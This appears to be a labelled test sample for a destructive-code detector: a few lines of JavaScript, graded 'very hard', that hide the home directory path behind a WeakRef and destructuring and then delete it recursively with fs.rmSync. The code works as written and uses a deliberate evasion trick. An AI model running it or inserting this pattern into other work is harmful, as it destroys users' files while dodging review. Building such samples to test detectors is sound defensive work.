// evasion: the dereferenced object of a WeakRef destructured; its workdir (the home directory) deleted
// grade: very hard; does: delete
const fs = require("fs");
const os = require("os");
const cache = new WeakRef({ workdir: os.homedir(), ttl: 60 });
const { workdir } = cache.deref() ?? {};
fs.rmSync(workdir, { recursive: true, force: true });
